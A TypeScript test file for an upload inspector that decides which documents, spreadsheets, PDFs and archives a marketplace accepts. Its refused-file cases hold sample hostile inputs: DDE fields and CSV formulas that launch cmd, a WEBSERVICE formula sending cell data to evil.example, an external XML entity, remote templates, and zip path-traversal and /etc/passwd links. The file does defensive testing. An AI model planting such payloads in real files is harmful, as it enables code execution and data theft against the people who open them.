import { PDFName, PDFString } from "@cantoo/pdf-lib";
import { describe, expect, test } from "vitest";
import {
  bomb,
  docxOf,
  html,
  officeOf,
  oldOfficeOf,
  oldWord,
  pdfOf,
  pdfThatLaunches,
  pdfWithAttachment,
  pdfWithHiddenScript,
  pdfWithPassword,
  pdfWithScript,
  pictureOf,
  relations,
  svg,
} from "../../../../test/factories/market-files.ts";
import { zipOf } from "../../../../test/factories/zip.ts";
import { inspectContent } from "./inspect-content.ts";

const inspect = async (name: string, content: Buffer | Promise<Buffer>) =>
  inspectContent({ name, content: await content, within: null });
const faultOf = async (name: string, content: Buffer | Promise<Buffer>) => (await inspect(name, content)).fault;

/** What a PDF does by itself: when it is opened, or its first page. */
const pdfThatOpens = (when: "OpenAction" | "AA", kind: string) =>
  pdfOf(1, (document) => {
    const { context, catalog } = document;
    const first = [document.getPage(0).ref, "Fit"];
    const action = context.register(
      context.obj({ S: kind, URI: PDFString.of("https://evil.example"), F: PDFString.of("other.pdf"), D: first }),
    );
    if (when === "OpenAction") catalog.set(PDFName.of(when), action);
    else document.getPage(0).node.set(PDFName.of(when), context.obj({ O: action }));
  });
const inUtf16 = (content: string): Buffer =>
  Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(content, "utf16le")]);

const text = Buffer.from("Walk, breathe, roll down.");
const program = Buffer.concat([Buffer.from("MZ"), Buffer.alloc(200)]);
const wav = Buffer.concat([Buffer.from("RIFF\u0024\u0000\u0000\u0000WAVEfmt ", "latin1"), Buffer.alloc(100)]);

describe("what may be sold", () => {
  test.each(["PARENT LETTERS, six of them", "BMW is no dance", "Walk, breathe, roll down."])(
    "a text that begins with %s",
    async (words) => {
      expect(await faultOf("plan.txt", Buffer.from(words))).toBeNull();
      expect(await faultOf("plan.csv", Buffer.from(`${words}\n1,2`))).toBeNull();
    },
  );

  test("a PDF, whose pages are counted and which takes a name on each", async () => {
    expect(await inspect("plan.pdf", pdfOf(3))).toEqual({
      fault: null,
      mime: "application/pdf",
      length: 3,
      stampable: true,
    });
  });

  test("a PDF that only says what may not be done with it", async () => {
    expect(await inspect("plan.pdf", pdfWithPassword(""))).toMatchObject({ fault: null, length: 2, stampable: true });
  });

  test("a PDF that opens at a page of its own choice", async () => {
    const content = pdfOf(2, (document) => {
      const target = [document.getPage(1).ref, "Fit"];
      document.catalog.set(document.context.obj("OpenAction"), document.context.obj(target));
    });
    expect(await faultOf("plan.pdf", content)).toBeNull();
  });

  test.each([
    ["warm-up.txt", text, "text/plain; charset=utf-8"],
    ["rows.CSV", Buffer.from("count,step\n8,plié\n"), "text/csv; charset=utf-8"],
    ["beat.wav", wav, "audio/wav"],
    ["plan.docx", docxOf(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"],
    ["plan.doc", oldOfficeOf(oldWord()), "application/msword"],
    ["all.zip", zipOf({ name: "a/b.txt", content: text }), "application/zip"],
  ])("%s", async (name, content, mime) => {
    expect(await inspect(name, content)).toMatchObject({ fault: null, mime });
  });

  test("a presentation, whose slides are counted", async () => {
    const slide = (n: number) => ({ name: `ppt/slides/slide${n}.xml`, content: "<p:sld/>" });
    const parts = [{ name: "ppt/presentation.xml", content: "<p/>" }, slide(1), slide(2)];
    expect(await inspect("steps.pptx", officeOf("pptx", ...parts))).toMatchObject({ fault: null, length: 2 });
  });

  test("an archive that a Mac packed, with Office files and PDFs in it", async () => {
    const content = zipOf(
      { name: "class/", content: "" },
      { name: "class/plan.docx", content: docxOf() },
      { name: "class/plan.pdf", content: await pdfOf() },
      { name: "class/.DS_Store", content: Buffer.from("0000000142756431", "hex") },
      { name: "__MACOSX/class/._plan.pdf", content: Buffer.from("0005160700020000", "hex") },
    );
    expect(await faultOf("class.zip", content)).toBeNull();
  });

  test("a document with fields, a link to the web and a table with sums and marks", async () => {
    const fields = '<w:p><w:instrText>HYPERLINK "https://dance.example"</w:instrText><w:t>Add DDE to taste</w:t></w:p>';
    expect(await faultOf("plan.docx", docxOf({ name: "word/header1.xml", content: fields }))).toBeNull();
    const rows = 'step,count\n- breathe,+1\n@ 120 bpm,=SUM(A1:A2)\n=B1*2,"cmd, not yet"\n';
    expect(await faultOf("rows.csv", Buffer.from(rows))).toBeNull();
  });

  test("a sheet with remarks, whose drawing has open tags as Excel writes them", async () => {
    const drawing = "<xml><v:shape style='a'><v:textbox><div>Rise &amp turn<br></div></v:textbox></v:shape></xml>";
    const content = officeOf("xlsx", { name: "xl/drawings/vmlDrawing1.vml", content: drawing });
    expect(await faultOf("rows.xlsx", content)).toBeNull();
  });

  test("a PDF with a link to the web and one that opens at a place by an action", async () => {
    expect(await faultOf("plan.pdf", pdfThatOpens("OpenAction", "GoTo"))).toBeNull();
    const content = pdfOf(1, (document) => {
      const action = { S: "URI", URI: PDFString.of("https://dance.example") };
      const link = document.context.obj({ Type: "Annot", Subtype: "Link", Rect: [0, 0, 9, 9], A: action });
      document.getPage(0).node.set(PDFName.of("Annots"), document.context.obj([document.context.register(link)]));
    });
    expect(await faultOf("plan.pdf", content)).toBeNull();
  });

  test("a document made after a template on its maker's own machine, with a link to the web", async () => {
    const content = docxOf(relations("file:///C:\\Users\\Ida\\Normal.dotm"), {
      ...relations("https://dance.example", "hyperlink"),
      name: "word/_rels/document.xml.rels",
    });
    expect(await faultOf("plan.docx", content)).toBeNull();
  });
});

describe("what is not what its name says", () => {
  test.each<[string, string, Buffer | Promise<Buffer>]>([
    ["HTML called PDF", "plan.pdf", html],
    ["SVG called PNG", "cover.png", svg],
    ["HTML called text", "plan.txt", html],
    ["a program called PDF", "plan.pdf", program],
    ["a picture called JPEG that is PNG", "cover.jpg", pictureOf(8, 8)],
    ["a plain archive called Word", "plan.docx", zipOf({ name: "a.txt", content: text })],
    ["an old Word file called Excel", "plan.xls", oldOfficeOf(oldWord())],
    ["bytes without meaning", "plan.mp3", Buffer.alloc(300, 1)],
  ])("%s", async (_, name, content) => {
    expect(await faultOf(name, content)).toBe("mismatch");
  });

  test("a PDF that is an archive as well, with or without a comment behind", async () => {
    const archive = zipOf({ name: "run.js", content: "alert(1)" });
    const both = Buffer.concat([await pdfOf(), archive]);
    expect(await faultOf("plan.pdf", both)).toBe("mismatch");
    const comment = Buffer.from(archive);
    comment.writeUInt16LE(5, comment.length - 2);
    expect(await faultOf("plan.pdf", Buffer.concat([await pdfOf(), comment, Buffer.from("hello")]))).toBe("mismatch");
  });

  test("but a picture may hold the letters that archives end with", async () => {
    const content = Buffer.concat([
      await pictureOf(8, 8),
      Buffer.from("PK\u0005\u0006", "latin1"),
      Buffer.alloc(30, 7),
    ]);
    expect(await faultOf("cover.png", content)).toBeNull();
  });
});

describe("what is refused", () => {
  test.each<[string, string, Buffer | Promise<Buffer>, string]>([
    ["SVG", "cover.svg", svg, "type"],
    ["HTML", "plan.html", html, "type"],
    ["a program", "install.exe", program, "type"],
    ["a file without an ending", "plan", text, "type"],
    ["an empty file", "plan.txt", Buffer.alloc(0), "empty"],
    ["an archive without files", "all.zip", zipOf(), "empty"],
    ["macros", "plan.docx", docxOf({ name: "word/vbaProject.bin", content: "x" }), "macros"],
    [
      "a file made for macros, renamed",
      "plan.docx",
      officeOf("docm", { name: "word/document.xml", content: "<w/>" }),
      "macros",
    ],
    [
      "macros in an embedded sheet",
      "plan.docx",
      docxOf({
        name: "word/embeddings/a.xlsx",
        content: officeOf("xlsx", { name: "xl/vbaProject.bin", content: "x" }),
      }),
      "macros",
    ],
    ["old macros", "plan.doc", oldOfficeOf({ ...oldWord(), "/Macros/VBA/dir": Buffer.from("x") }), "macros"],
    [
      "an old field that asks a program",
      "plan.doc",
      oldOfficeOf({
        "/WordDocument": Buffer.concat([
          oldWord()["/WordDocument"] ?? Buffer.alloc(0),
          Buffer.from("\u0013 DDEAUTO c:\\cmd \u0015", "utf16le"),
        ]),
      }),
      "dde_field",
    ],
    [
      "an old wrapped object",
      "plan.doc",
      oldOfficeOf({ ...oldWord(), "/ObjectPool/_1234/Contents": Buffer.from("x") }),
      "object",
    ],
    ["a remote template", "plan.docx", docxOf(relations("https://evil.example/a.dotm")), "loads"],
    ["a template on another machine", "plan.docx", docxOf(relations("\\\\evil\\share\\a.dotm")), "loads"],
    [
      "a wrapped program",
      "plan.docx",
      docxOf({ name: "word/embeddings/oleObject1.bin", content: Buffer.from("Ole10Native", "utf16le") }),
      "object",
    ],
    [
      "a wrapped thing of any other kind",
      "plan.docx",
      docxOf({ name: "word/embeddings/oleObject1.bin", content: oldOfficeOf(oldWord()) }),
      "object",
    ],
    ["a picture from the web", "plan.docx", docxOf(relations("https://evil.example/a.png", "image")), "loads"],
    ["a film from the web", "plan.docx", docxOf(relations("https://evil.example/a.mp4", "video")), "loads"],
    [
      "a template whose address is written in signs",
      "plan.docx",
      docxOf(relations("&#104;ttps://evil.example/a")),
      "loads",
    ],
    [
      "a template in another writing",
      "plan.docx",
      docxOf({
        name: "word/_rels/settings.xml.rels",
        content: inUtf16(String(relations("https://evil.example/a.dotm").content)),
      }),
      "loads",
    ],
    [
      "a field that asks a program",
      "plan.docx",
      docxOf({
        name: "word/header1.xml",
        content: String.raw`<w:fldSimple w:instr=" DDEAUTO c:\\cmd.exe &quot;/k calc&quot; "/>`,
      }),
      "dde_field",
    ],
    [
      "a field that asks a program, in pieces",
      "plan.docx",
      docxOf({
        name: "word/header1.xml",
        content:
          "<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText xml:space='preserve'>E cmd</w:instrText></w:r></w:p>",
      }),
      "dde_field",
    ],
    [
      "a sheet that asks a program",
      "rows.xlsx",
      officeOf("xlsx", {
        name: "xl/externalLinks/externalLink1.xml",
        content: "<x:ddeLink ddeService='cmd' ddeTopic='/c'/>",
      }),
      "dde_link",
    ],
    [
      "entities from elsewhere",
      "plan.docx",
      docxOf({
        name: "word/header1.xml",
        content: '<!DOCTYPE x [<!ENTITY a SYSTEM "http://evil.example">]><x>&a;</x>',
      }),
      "external_entity",
    ],
    ["a PDF that opens an address at once", "plan.pdf", pdfThatOpens("OpenAction", "URI"), "scripts"],
    ["a PDF that opens an address with a page", "plan.pdf", pdfThatOpens("AA", "URI"), "scripts"],
    ["a PDF that opens another file", "plan.pdf", pdfThatOpens("OpenAction", "GoToR"), "scripts"],
    ["a PDF that sends at once", "plan.pdf", pdfThatOpens("OpenAction", "SubmitForm"), "scripts"],
    ["a table that asks a program", "rows.csv", Buffer.from("a,b\n1,=cmd|' /C calc'!A0\n"), "dde_formula"],
    [
      "a table that asks a program, quoted",
      "rows.csv",
      Buffer.from("a;\"@SUM(1+1)*cmd|'/C calc'!A0\"\n"),
      "dde_formula",
    ],
    [
      "a table that tells another machine",
      "rows.csv",
      Buffer.from('a,"=WEBSERVICE(""https://evil.example/""&A1)"\n'),
      "loading_formula",
    ],
    ["a page that Word loads", "plan.docx", docxOf({ name: "word/afchunk.mht", content: "x" }), "archive"],
    [
      "a password on Word",
      "plan.docx",
      oldOfficeOf({ "/EncryptedPackage": Buffer.alloc(600), "/EncryptionInfo": Buffer.alloc(600) }),
      "password",
    ],
    ["a password on old Word", "plan.doc", oldOfficeOf(oldWord(true)), "password"],
    ["a password on PDF", "plan.pdf", pdfWithPassword("secret"), "password"],
    ["a password on an archive", "all.zip", zipOf({ name: "a.txt", content: text, locked: true }), "password"],
    ["a script in a PDF", "plan.pdf", pdfWithScript(), "scripts"],
    ["a script written in signs", "plan.pdf", pdfWithHiddenScript(), "scripts"],
    ["an attachment of a PDF", "plan.pdf", pdfWithAttachment(), "scripts"],
    ["a PDF that starts programs", "plan.pdf", pdfThatLaunches(), "scripts"],
    ["41 megapixels", "cover.png", pictureOf(8_200, 5_000), "pixels"],
  ])("%s", async (_, name, content, fault) => {
    expect(await faultOf(name, content)).toBe(fault);
  });

  test("old Excel with a password, macros, or a sheet of old macros", async () => {
    const record = (type: number, ...content: number[]) => {
      const head = Buffer.alloc(4);
      head.writeUInt16LE(type, 0);
      head.writeUInt16LE(content.length, 2);
      return Buffer.concat([head, Buffer.from(content)]);
    };
    const begin = record(0x809, 0, 6, 5, 0);
    const book = (...records: Buffer[]) => oldOfficeOf({ "/Workbook": Buffer.concat([begin, ...records, record(10)]) });
    expect(await faultOf("rows.xls", book())).toBeNull();
    expect(await faultOf("rows.xls", book(record(0x2f, 1, 0)))).toBe("password");
    expect(await faultOf("rows.xls", book(record(0x85, 0, 0, 0, 0, 0, 1, 0, 0)))).toBe("macros");
  });
});

describe("archives", () => {
  test("of forty kilobytes that unpack to gigabytes are refused before anything is unpacked", async () => {
    const content = bomb();
    expect(content.length).toBeLessThan(60_000);
    const began = performance.now();
    expect(await faultOf("all.zip", content)).toBe("archive");
    expect(performance.now() - began).toBeLessThan(2_000);
  });

  test.each([
    ["that lead out of their folder", zipOf({ name: "../../x.txt", content: text })],
    ["from the root", zipOf({ name: "/etc/x.txt", content: text })],
    ["on a drive", zipOf({ name: "C:/x.txt", content: text })],
    ["with backslashes", zipOf({ name: "..\\x.txt", content: text })],
    ["that are links", zipOf({ name: "x.txt", content: "/etc/passwd", mode: 0o120777 })],
    ["of programs", zipOf({ name: "x.exe", content: program })],
    ["of web pages", zipOf({ name: "x.txt", content: html })],
    ["of archives", zipOf({ name: "x.zip", content: zipOf({ name: "a.txt", content: text }) })],
    ["twice", zipOf({ name: "a.txt", content: text }, { name: "A.txt", content: text })],
    ["that claim to be smaller", zipOf({ name: "a.txt", content: Buffer.alloc(5_000, 65), claims: 10 })],
    ["by the thousand", zipOf({ name: "a.txt", content: text, times: 1_001 })],
    ["that shrink more than a hundredfold", zipOf({ name: "a.txt", content: Buffer.alloc(3_000_000, 65) })],
    ["that only look left by a Mac", zipOf({ name: "__MACOSX/._x.exe", content: program })],
  ])("with entries %s are not safe", async (_, content) => {
    expect(await faultOf("all.zip", content)).toBe("archive");
  });

  test("say what is wrong with a file in them", async () => {
    const macro = zipOf({ name: "a.docx", content: docxOf({ name: "word/vbaProject.bin", content: "x" }) });
    expect(await faultOf("all.zip", macro)).toBe("macros");
    expect(await faultOf("all.zip", zipOf({ name: "a.pdf", content: await pdfWithScript() }))).toBe("scripts");
  });

  test("may have empty files", async () => {
    const content = zipOf({ name: "a.txt", content: text }, { name: "b.txt", content: "" });
    expect(await faultOf("all.zip", content)).toBeNull();
  });
});

test("archives that were cut off are never taken", async () => {
  const whole = {
    "plan.docx": docxOf(),

    "all.zip": zipOf({ name: "a.txt", content: text }),
  };
  const taken: string[] = [];
  for (const [name, content] of Object.entries(whole))
    for (let part = 1; part <= 8; part += 1) {
      const cut = Buffer.from(content.subarray(0, Math.floor((content.length * part) / 9)));
      const verdict = await inspect(name, cut).catch(() => null);
      if (verdict?.fault === null) taken.push(`${name} ${part}/9`);
    }
  expect(taken).toEqual([]);
});
